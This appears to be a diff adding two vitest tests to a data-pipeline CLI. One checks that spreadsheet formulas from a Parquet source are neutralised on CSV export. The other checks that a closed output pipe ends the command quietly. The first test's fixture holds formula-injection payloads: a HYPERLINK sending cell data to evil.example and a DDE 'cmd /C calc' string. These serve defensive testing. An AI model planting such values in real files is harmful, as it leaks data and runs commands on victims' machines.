@@ -5,10 +5,14 @@
  * the file and the rule, a quarantine entry where one applies, no stack trace, and no value of
  * the file in any output.
  */
+import { spawn } from 'node:child_process';
 import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
+import { Writable } from 'node:stream';
 import { gzipSync } from 'node:zlib';
+import { parquetWriteBuffer } from 'hyparquet-writer';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { main } from '../../functions/cli/main.ts';
 import { decodeTable } from '../../functions/core/codecs/decode-table.ts';
 import { InvalidFileError } from '../../functions/core/errors.ts';
 import type { RunRecord } from '../../functions/core/lineage/run-record.ts';
@@ -130,6 +134,53 @@ describe('hostile files through the CLI', () => {
       .split('\n')
       .map((l) => JSON.parse(l) as { note: string });
     expect(rows.map((r) => r.note)).toEqual(['plain', 'two\r\nlines', 'cr\rinside', 'last']);
+  });
+
+  it('formulas from a Parquet source (published without neutralisation) are neutralised when read as CSV', async () => {
+    const note = ['=HYPERLINK("http://evil.example/?d="&A1)', "+cmd|' /C calc'!A0", '@SUM(A1)', "'=already", 'fine', '-3.5'];
+    const buffer = parquetWriteBuffer({
+      columnData: [
+        { name: 'order_id', data: note.map((_, i) => `O${i}`), type: 'STRING' },
+        { name: 'note', data: note, type: 'STRING' },
+      ],
+    });
+    await writeFile(join(dir.path, 'pq-orders.parquet'), new Uint8Array(buffer));
+    expect((await runCli(['--home', home, 'run', 'pq-orders.parquet'], { cwd: dir.path })).code).toBe(0);
+    const csv = await runCli(['--home', home, 'read', 'pq-orders', '--format', 'csv'], { cwd: dir.path });
+    expect(csv.code).toBe(0);
+    const cells = csv.stdout
+      .trim()
+      .split('\n')
+      .slice(1)
+      .map((l) => l.slice(l.indexOf(',') + 1).replace(/^"/, ''));
+    expect(cells.map((c) => c.slice(0, 2))).toEqual(["'=", "'+", "'@", "'=", 'fi', '-3']);
+  });
+
+  it('a reader that closes the pipe early (read … | head) ends the command quietly, in process and as a real process', async () => {
+    let writes = 0;
+    const closed = new Writable({
+      write(_chunk, _enc, cb) {
+        if (++writes > 1) cb(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
+        else cb();
+      },
+    });
+    const stderr = new Writable({ write: (chunk, _enc, cb) => cb(new Error(`unexpected stderr: ${String(chunk)}`)) });
+    const big = `id,note\n${Array.from({ length: 20_000 }, (_, i) => `${i},n${i}`).join('\n')}\n`;
+    await writeFile(join(dir.path, 'piped.csv'), big);
+    expect((await runCli(['--home', home, 'run', 'piped.csv'], { cwd: dir.path })).code).toBe(0);
+    expect(await main(['--home', home, 'read', 'piped'], { stdout: closed, stderr, cwd: dir.path, env: { NO_COLOR: '1' } })).toBe(0);
+    // The real entry: the pipe is closed after the first chunk, as `head -1` does.
+    const bin = new URL('../../bin/privacy-pipeline.mjs', import.meta.url).pathname;
+    const child = spawn(process.execPath, [bin, '--home', home, 'read', 'piped'], { cwd: dir.path, stdio: ['ignore', 'pipe', 'pipe'] });
+    let err = '';
+    child.stderr.setEncoding('utf8').on('data', (t: string) => {
+      err += t;
+    });
+    child.stdout.once('data', () => child.stdout.destroy());
+    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
+    expect(err).not.toMatch(STACK);
+    expect(err).not.toContain('internal error');
+    expect(code).toBe(0);
   });
 
   it('scan refuses a headerless file without printing its first record', async () => {
